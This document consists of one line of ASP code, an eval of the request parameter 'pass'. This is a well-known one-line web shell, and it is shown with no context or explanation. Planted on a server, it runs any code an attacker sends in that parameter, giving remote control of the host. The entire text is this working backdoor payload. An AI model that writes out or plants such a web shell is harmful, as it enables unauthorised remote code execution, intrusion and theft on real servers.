<%eval request("pass")%>
